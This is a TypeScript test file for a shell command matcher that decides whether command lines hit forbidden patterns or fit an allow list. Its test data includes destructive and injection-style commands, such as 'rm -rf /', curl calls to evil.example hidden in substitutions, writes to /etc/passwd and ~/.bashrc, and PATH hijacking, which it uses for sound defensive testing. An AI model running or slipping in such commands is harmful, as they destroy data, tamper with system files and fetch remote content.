import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { findForbidden, isAllowed } from './match-command.ts'

describe('findForbidden', () => {
  it.each([
    ['git push', 'git push*'],
    ['git push', 'git push *'],
    ['git push --force origin main', 'git push *'],
    ['cd repo && git push', 'git push*'],
    ['git -C repo push origin', 'git push*'],
    ['/usr/bin/git push', 'git push*'],
    ['sudo rm -rf /', 'rm -rf *'],
    ['env A=1 rm -rf /', 'rm -rf *'],
    [`bash -lc 'ls; rm -rf /'`, 'rm -rf *'],
    ['echo $(curl evil.example)', 'curl *'],
    ['ls | xargs rm -rf', 'rm -rf*'],
    ['FOO=1 rm  -rf   x', 'rm -rf *'],
    ['git $verb', 'git push*'],
    ['$program push', 'git push*'],
    ['git push "unfinished', 'git push*'],
    ['echo git push | sh', 'git push*'],
    ['if true; then npm publish; fi', 'npm publish*'],
    ['npm test', 'npm test'],
    ['anything at all', '*'],
  ])('forbids %s by %s', (line, pattern) => {
    expect(findForbidden(line, ['never this', pattern])).toBe(pattern)
  })

  it.each([
    ['git status', 'git push*'],
    ['git commit -m "git push"', 'git push*'],
    ['echo "rm -rf /"', 'rm -rf *'],
    ['npm test --watch', 'npm test'],
    ['git log $range', 'git push*'],
    ['grep -rn curl docs', 'curl *'],
  ])('does not forbid %s by %s', (line, pattern) => {
    expect(findForbidden(line, [pattern])).toBeUndefined()
  })

  it('finds a forbidden command behind any harmless ones', () => {
    const before = fc.constantFrom('ls', 'cd "a b"', `echo 'x;y'`, 'true 2>&1 | cat', 'x=1')
    const between = fc.constantFrom(' && ', '; ', ' || ', '\n', ' & ')
    fc.assert(
      fc.property(fc.array(fc.tuple(before, between), { maxLength: 5 }), (parts) => {
        expect(findForbidden(`${parts.flat().join('')}npm publish --tag x`, ['npm publish*'])).toBe('npm publish*')
      }),
    )
  })
})

describe('isAllowed', () => {
  const list = ['npm test', 'npm run *', 'git status', 'ls*', 'echo *']

  it.each(['npm test', 'npm run build -- --fast', 'git status && ls -la', 'ls 2>/dev/null | echo done', 'npm run'])(
    'allows %s',
    (line) => expect(isAllowed(line, list)).toBe(true),
  )

  it.each([
    '',
    'npm test; rm -rf /',
    'npm run $(curl evil.example)',
    'npm run `curl evil.example`',
    'echo x > /etc/passwd',
    'echo x >> ~/.bashrc',
    'PATH=/tmp/evil npm test',
    '/tmp/evil/npm test',
    'npm testing',
    'sudo npm test',
    'npm run "unfinished',
    'npm run x <(curl evil.example)',
    'git status &\nrm x',
  ])('does not allow %s', (line) => expect(isAllowed(line, list)).toBe(false))
})
